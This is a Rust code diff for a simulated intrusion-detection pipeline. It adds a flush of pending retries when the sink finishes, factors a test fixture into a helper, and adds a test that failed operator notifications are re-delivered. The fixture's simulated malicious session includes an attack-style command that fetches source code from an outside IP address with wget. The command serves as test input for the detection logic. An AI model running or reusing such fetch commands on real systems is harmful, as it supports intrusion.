@@ -74,8 +74,10 @@ impl PipelineSink {
     }
 
     /// Finalize counters into the report (router stats are filled by the
-    /// caller who owns the engine).
+    /// caller who owns the engine). Deliveries still waiting for a retry
+    /// are drained first, so none is silently dropped.
     pub fn finish(&mut self) -> RunReport {
+        self.core.flush();
         self.report
             .notifications
             .append(&mut self.core.notifications);
@@ -109,8 +111,10 @@ impl ActionSink for PipelineSink {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::stage::PipelineBuilder;
+    use crate::report::OperatorNotification;
+    use crate::stage::{NotifyBackend, PipelineBuilder};
     use alertlib::symbolize::{Symbolizer, SymbolizerConfig};
+    use bhr::retry::BlockError;
     use simnet::engine::Engine;
     use simnet::flow::{Flow, FlowId};
     use simnet::intern::SymScope;
@@ -167,12 +171,11 @@ mod tests {
         );
     }
 
-    #[test]
-    fn detection_blocks_source_at_bhr() {
+    /// A malicious host session: process records that symbolize into the
+    /// S1 chain for one user.
+    fn s1_chain_engine() -> Engine {
         let topo = NcsaTopologyBuilder::default().build();
         let mut engine = Engine::new(topo, SimTime::EPOCH);
-        // A malicious host session: process records that symbolize into the
-        // S1 chain for one user.
         let host = simnet::topology::HostId(0);
         let cmds = [
             "wget http://64.215.4.5/abs.c",
@@ -193,6 +196,12 @@ mod tests {
                 }),
             );
         }
+        engine
+    }
+
+    #[test]
+    fn detection_blocks_source_at_bhr() {
+        let mut engine = s1_chain_engine();
         let mut s = sink();
         engine.run(&mut [&mut s]);
         let report = s.finish();
@@ -203,6 +212,35 @@ mod tests {
         // Host-only alerts carry no src address, so no block is installed —
         // but the notification still fires.
         assert_eq!(report.blocked_sources, 0);
+    }
+
+    /// A notification whose first delivery failed is retried when the
+    /// sink finishes, as every record-stream executor does: the response
+    /// stage never drops one silently.
+    #[test]
+    fn finish_retries_failed_deliveries() {
+        struct FailsOnce(bool);
+        impl NotifyBackend for FailsOnce {
+            fn try_notify(&mut self, _: &OperatorNotification) -> Result<(), BlockError> {
+                if std::mem::replace(&mut self.0, true) {
+                    Ok(())
+                } else {
+                    Err(BlockError::Timeout)
+                }
+            }
+        }
+        let mut engine = s1_chain_engine();
+        let mut s = PipelineBuilder::new()
+            .notify_backend(FailsOnce(false))
+            .build_sink(vec![Box::new(HostMonitor::new(SymScope::global()))]);
+        engine.run(&mut [&mut s]);
+        let report = s.finish();
+        assert_eq!(report.stats.detections, 1);
+        assert_eq!(
+            report.notifications.len() as u64,
+            report.stats.detections,
+            "the failed notification is re-delivered"
+        );
     }
 
     #[test]
